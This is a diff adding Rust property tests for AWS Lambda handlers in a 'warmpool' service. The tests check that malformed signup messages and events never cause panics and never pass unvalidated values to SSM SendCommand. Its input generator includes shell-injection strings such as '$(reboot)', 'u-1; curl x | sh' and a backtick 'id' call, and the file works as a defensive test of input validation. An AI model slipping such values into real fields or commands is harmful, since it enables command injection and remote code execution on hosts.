@@ -1,0 +1,164 @@
+//! Bad input never panics, never loops, and never reaches a host except as a
+//! validated SSM document parameter (property tests over arbitrary input).
+
+#![allow(clippy::unwrap_used, clippy::expect_used)] // test helpers may panic
+
+use aws_lambda_events::event::eventbridge::EventBridgeEvent;
+use aws_lambda_events::event::sqs::SqsEvent;
+use lambda_runtime::{Context, LambdaEvent};
+use proptest::prelude::*;
+use serde_json::{Value, json};
+use warmpool::Config;
+use warmpool::sim::{SimCloud, fixture};
+
+fn block_on<T>(f: impl std::future::Future<Output = T>) -> T {
+    tokio::runtime::Builder::new_current_thread().enable_time().start_paused(true).build().unwrap().block_on(f)
+}
+
+fn sqs_event(bodies: &[String]) -> LambdaEvent<SqsEvent> {
+    let records: Vec<Value> = bodies
+        .iter()
+        .enumerate()
+        .map(|(i, b)| json!({"messageId": format!("m-{i}"), "body": b, "attributes": {"MessageGroupId": format!("g-{i}")}}))
+        .collect();
+    LambdaEvent::new(serde_json::from_value(json!({ "Records": records })).unwrap(), Context::default())
+}
+
+/// Only plain ids and numbers may reach the host, and only as document parameters.
+fn assert_only_validated_parameters(cloud: &SimCloud) {
+    for request in cloud.sent_commands() {
+        for (name, values) in &request.parameters {
+            for v in values {
+                let ok = match name.as_str() {
+                    "executionTimeout" => !v.is_empty() && v.chars().all(|c| c.is_ascii_digit()),
+                    _ => {
+                        v.len() <= 64
+                            && v.chars().next().is_some_and(|c| c.is_ascii_alphanumeric())
+                            && v.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
+                    }
+                };
+                assert!(ok, "parameter {name}={v:?} reached SendCommand");
+            }
+        }
+        assert!(request.comment.is_ascii() && !request.comment.contains(['$', '`', ';', '|']));
+    }
+}
+
+/// Runs a signup batch, then the lifecycle handler on every user group's instance, so
+/// that whatever the bodies were, their SendCommand requests exist and can be checked.
+async fn signup_and_init(cloud: &SimCloud, cfg: &Config, bodies: &[String]) -> Vec<String> {
+    let response = warmpool_signup::handler(cloud, cfg, sqs_event(bodies)).await.unwrap();
+    for (group, ids) in cloud.snapshot().groups {
+        if group.starts_with(&cfg.user_group_prefix) {
+            for id in ids {
+                let e = json!({"detail-type": "EC2 Instance Launch Successful", "source": "aws.autoscaling",
+                    "detail": {"AutoScalingGroupName": group, "EC2InstanceId": id}});
+                let event: EventBridgeEvent<Value> = serde_json::from_value(e).unwrap();
+                let _ = warmpool_lifecycle::handler(cloud, cfg, LambdaEvent::new(event, Context::default())).await;
+            }
+        }
+    }
+    response.batch_item_failures.into_iter().map(|f| f.item_identifier).collect()
+}
+
+fn nasty_string() -> impl Strategy<Value = String> {
+    prop_oneof![
+        any::<String>(),
+        "[a-zA-Z0-9_-]{1,64}",
+        "[ -~]{0,80}",
+        Just("$(reboot)".to_owned()),
+        Just("u-1; curl x | sh".to_owned()),
+        Just("u-1`id`".to_owned()),
+        Just("ü-1".to_owned()),
+        Just("u-1\n".to_owned()),
+        Just("-rf".to_owned()),
+        Just("x".repeat(65)),
+    ]
+}
+
+fn json_value() -> impl Strategy<Value = Value> {
+    let leaf = prop_oneof![
+        Just(Value::Null),
+        any::<bool>().prop_map(Value::from),
+        any::<i64>().prop_map(Value::from),
+        any::<f64>().prop_filter("finite", |f| f.is_finite()).prop_map(Value::from),
+        nasty_string().prop_map(Value::from),
+    ];
+    leaf.prop_recursive(3, 24, 6, |inner| {
+        prop_oneof![
+            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::from),
+            prop::collection::btree_map(nasty_string(), inner, 0..6)
+                .prop_map(|m| Value::Object(m.into_iter().collect())),
+        ]
+    })
+}
+
+fn signup_body() -> impl Strategy<Value = String> {
+    prop_oneof![
+        // Well-formed shape, arbitrary field values.
+        (nasty_string(), nasty_string())
+            .prop_map(|(u, s)| json!({"kind": "signup", "user_id": u, "signup_id": s}).to_string()),
+        nasty_string().prop_map(|u| json!({"kind": "delete", "user_id": u}).to_string()),
+        // Wrong types and shapes.
+        json_value().prop_map(|v| v.to_string()),
+        (json_value(), json_value()).prop_map(|(u, s)| json!({"user_id": u, "signup_id": s}).to_string()),
+        // Arbitrary text and huge bodies.
+        any::<String>(),
+        (1_000usize..300_000).prop_map(|n| format!("{{\"user_id\":\"{}\",\"signup_id\":\"s\"}}", "a".repeat(n))),
+    ]
+}
+
+fn is_valid(body: &str) -> bool {
+    warmpool::domain::SignupMessage::parse(body).is_ok()
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]
+
+    #[test]
+    fn signup_batches_never_panic_and_only_invalid_records_fail(bodies in prop::collection::vec(signup_body(), 1..6)) {
+        let (failed, cloud) = block_on(async {
+            let (cloud, cfg) = fixture::cloud_with_pool(8);
+            let failed = signup_and_init(&cloud, &cfg, &bodies).await;
+            (failed, cloud)
+        });
+        for (i, body) in bodies.iter().enumerate() {
+            let id = format!("m-{i}");
+            // A valid message is processed; an invalid one is reported failed (and so
+            // dead-lettered after maxReceiveCount), never silently dropped.
+            prop_assert_eq!(failed.contains(&id), !is_valid(body), "record {} {:?}", i, body.chars().take(100).collect::<String>());
+        }
+        assert_only_validated_parameters(&cloud);
+    }
+
+    #[test]
+    fn arbitrary_events_never_panic(detail_type in prop_oneof![
+            Just("EC2 Instance Launch Successful".to_owned()),
+            Just("EC2 Instance-launch Lifecycle Action".to_owned()),
+            Just("EC2 Command Status-change Notification".to_owned()),
+            Just("EC2 Command Invocation Status-change Notification".to_owned()),
+            nasty_string(),
+        ],
+        detail in json_value(),
+        known_fields in json_value()) {
+        block_on(async {
+            let (cloud, cfg) = fixture::cloud_with_pool(2);
+            // Mix arbitrary values into the fields the handlers read.
+            let mut d = detail.clone();
+            if let (Value::Object(m), Value::Object(extra)) = (&mut d, &known_fields) {
+                for (k, v) in extra { m.insert(k.clone(), v.clone()); }
+            }
+            for field in ["AutoScalingGroupName", "EC2InstanceId", "LifecycleTransition", "command-id",
+                          "document-name", "instance-id", "status", "parameters"] {
+                if let Value::Object(m) = &mut d { m.entry(field).or_insert_with(|| known_fields.clone()); }
+            }
+            for payload in [detail.clone(), d] {
+                let e = json!({"detail-type": detail_type, "source": "aws.autoscaling", "detail": payload});
+                let event: EventBridgeEvent<Value> = serde_json::from_value(e).unwrap();
+                let _ = warmpool_lifecycle::handler(&cloud, &cfg, LambdaEvent::new(event.clone(), Context::default())).await;
+                let _ = warmpool_command_status::handler(&cloud, &cfg, LambdaEvent::new(event, Context::default())).await;
+            }
+            assert_only_validated_parameters(&cloud);
+        });
+    }
+}
